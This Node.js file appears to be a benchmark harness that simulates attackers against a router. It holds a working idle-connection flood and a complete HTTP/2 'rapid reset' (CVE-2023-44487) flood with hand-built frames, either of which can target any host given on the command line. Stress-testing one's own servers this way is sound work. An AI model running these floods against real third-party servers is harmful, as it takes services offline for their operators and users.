// The edge scenario's attackers (scenarios/edge.ts), in Node.js: node:net can
// bind a source address (Deno.connect cannot), so that each attacker has a
// loopback address of its own, which a router's per-address limits can tell
// from the normal traffic.
//
//   node bench/edge_flood.mjs idle <source> <host> <port>:<count>... <seconds>
//     Holds <count> idle TCP connections (no byte sent) to each port; one
//     that closes is dialed again a second later. Prints
//     {"event":"opened","public":N,"tunnel":M} once every first attempt has
//     settled (the first port is "public", the second "tunnel"), and
//     {"event":"result",…} when stopped (SIGTERM) or after <seconds>.
//
//   node bench/edge_flood.mjs reset <source> <host> <port> <per second> <seconds>
//     h2c with prior knowledge, frames written by hand (no client library's
//     limits): opens streams (HEADERS GET /tiny) and resets each at once
//     (RST_STREAM CANCEL, CVE-2023-44487 "rapid reset"), <per second> in ticks
//     of 10 ms, over a few connections at once, each replaced when the server
//     closes it or sends GOAWAY.
//     Prints {"event":"result",…} at the end.

import net from "node:net";

const emit = (event) => process.stdout.write(`${JSON.stringify(event)}\n`);

/** Connect attempts that take longer than this count as failed. */
const CONNECT_TIMEOUT_MS = 3000;
/** First dials per 10 ms tick: a burst of thousands of SYNs would overflow the listen backlog. */
const DIALS_PER_TICK = 100;
/** Connections the reset flood keeps open at once. */
const SESSIONS = 8;

function idle(source, host, targets, seconds) {
  const kinds = ["public", "tunnel"];
  const open = { public: 0, tunnel: 0 };
  const sockets = new Set();
  let failedConnects = 0;
  let closedByPeer = 0;
  let stopping = false;
  let firstPending = targets.reduce((n, t) => n + t.count, 0);
  let openedSent = false;
  const settleFirst = () => {
    if (--firstPending === 0 && !openedSent) {
      openedSent = true;
      emit({ event: "opened", ...open });
    }
  };

  const dial = (kind, port, first) => {
    if (stopping) return;
    let connected = false;
    const socket = net.connect({ host, port, localAddress: source });
    sockets.add(socket);
    socket.setTimeout(CONNECT_TIMEOUT_MS, () => {
      if (!connected) socket.destroy();
    });
    socket.on("connect", () => {
      connected = true;
      socket.setTimeout(0);
      open[kind]++;
      if (first) settleFirst();
    });
    socket.on("data", () => {}); // A 408 or the like: the close follows.
    socket.on("error", () => {});
    socket.on("close", () => {
      sockets.delete(socket);
      if (connected) {
        open[kind]--;
        if (!stopping) closedByPeer++;
      } else {
        failedConnects++;
        if (first) settleFirst();
      }
      if (!stopping) setTimeout(() => dial(kind, port, false), 1000);
    });
  };

  const queue = targets.flatMap((t, i) =>
    Array.from({ length: t.count }, () => [kinds[i] ?? `port${i}`, t.port])
  );
  const dialer = setInterval(() => {
    for (const [kind, port] of queue.splice(0, DIALS_PER_TICK)) dial(kind, port, true);
    if (queue.length === 0) clearInterval(dialer);
  }, 10);

  const stop = () => {
    if (stopping) return;
    stopping = true;
    clearInterval(dialer);
    emit({
      event: "result",
      failedConnects,
      closedByPeer,
      openAtEnd: open.public + open.tunnel,
      open,
    });
    for (const socket of sockets) socket.destroy();
    process.exit(0);
  };
  // Whatever happens, "opened" is told within the connect timeout after the last dial.
  setTimeout(() => {
    if (!openedSent) {
      openedSent = true;
      emit({ event: "opened", ...open });
    }
  }, (queue.length / DIALS_PER_TICK) * 10 + CONNECT_TIMEOUT_MS + 1000);
  setTimeout(stop, seconds * 1000);
  process.on("SIGTERM", stop);
}

// HTTP/2 frames (RFC 9113 §4.1): a 9-octet header (length, type, flags, stream id), then the payload.
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const PING = 0x6;
const GOAWAY = 0x7;
const END_STREAM_END_HEADERS = 0x5;
const ACK = 0x1;
const CANCEL = 0x8;

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/**
 * GET /tiny as an HPACK block (RFC 7541) the server needs no state for: :method GET and
 * :scheme http from the static table (§6.1), :path and :authority as literals without
 * indexing with an indexed name (§6.2.2).
 */
function requestBlock(authority) {
  const literal = (nameIndex, value) =>
    Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value)]);
  return Buffer.concat([Buffer.from([0x82, 0x86]), literal(4, "/tiny"), literal(1, authority)]);
}

function reset(source, host, port, perSecond, seconds) {
  const perTick = Math.max(1, Math.round(perSecond / 100));
  const block = requestBlock(`${host}:${port}`);
  const rstPayload = Buffer.alloc(4);
  rstPayload.writeUInt32BE(CANCEL);
  let streams = 0;
  let goaways = 0;
  let connections = 0;
  let sessionErrors = 0;
  let answered = 0;
  const start = Date.now();
  // A server may answer a burst of resets with GOAWAY (ENHANCE_YOUR_CALM): the flood then
  // goes on over other connections, as an attacker's would, SESSIONS at a time.
  const sessions = new Set();

  const connect = () => {
    connections++;
    const session = { socket: net.connect({ host, port, localAddress: source }), nextId: 1 };
    const { socket } = session;
    let input = Buffer.alloc(0);
    socket.setNoDelay(true);
    socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
    socket.on("data", (chunk) => {
      input = input.length ? Buffer.concat([input, chunk]) : chunk;
      while (input.length >= 9) {
        const length = input.readUIntBE(0, 3);
        if (input.length < 9 + length) break;
        const type = input[3];
        const flags = input[4];
        const payload = input.subarray(9, 9 + length);
        input = input.subarray(9 + length);
        if (type === SETTINGS && !(flags & ACK)) socket.write(frame(SETTINGS, ACK, 0));
        else if (type === PING && !(flags & ACK)) socket.write(frame(PING, ACK, 0, payload));
        else if (type === HEADERS) answered++;
        else if (type === GOAWAY) {
          goaways++;
          sessions.delete(session);
          socket.end();
        }
      }
    });
    socket.on("error", () => sessionErrors++);
    socket.on("close", () => sessions.delete(session));
    sessions.add(session);
  };

  const tick = setInterval(() => {
    if (Date.now() - start >= seconds * 1000) return finish();
    for (let n = sessions.size; n < SESSIONS; n++) connect();
    const open = [...sessions].filter((s) => !s.socket.connecting && s.socket.writable);
    if (open.length === 0) return;
    // One write per connection per tick: HEADERS (END_STREAM) and RST_STREAM (CANCEL) per stream.
    const share = Math.ceil(perTick / open.length);
    for (const session of open) {
      // A full socket buffer means the server reads no more: skip rather than queue without end.
      if (session.socket.writableLength > 1 << 20) continue;
      const frames = [];
      for (let k = 0; k < share && session.nextId < 0x7fffffff; k++) {
        const id = session.nextId;
        session.nextId += 2;
        frames.push(frame(HEADERS, END_STREAM_END_HEADERS, id, block));
        frames.push(frame(RST_STREAM, 0, id, rstPayload));
      }
      streams += frames.length / 2;
      session.socket.write(Buffer.concat(frames));
    }
  }, 10);

  const finish = () => {
    clearInterval(tick);
    const elapsed = (Date.now() - start) / 1000;
    emit({
      event: "result",
      seconds: elapsed,
      streams,
      perSec: streams / elapsed,
      answered,
      goaways,
      connections,
      sessionErrors,
    });
    for (const session of sessions) session.socket.destroy();
    process.exit(0);
  };
  process.on("SIGTERM", finish);
}

const [mode, source, host, ...rest] = process.argv.slice(2);
if (mode === "idle" && rest.length >= 2) {
  const seconds = Number(rest.pop());
  const targets = rest.map((t) => {
    const [port, count] = t.split(":").map(Number);
    return { port, count };
  });
  idle(source, host, targets, seconds);
} else if (mode === "reset" && rest.length === 3) {
  const [port, perSecond, seconds] = rest.map(Number);
  reset(source, host, port, perSecond, seconds);
} else {
  console.error(
    "usage: edge_flood.mjs idle <source> <host> <port>:<count>... <seconds>\n" +
      "       edge_flood.mjs reset <source> <host> <port> <per second> <seconds>",
  );
  process.exit(2);
}
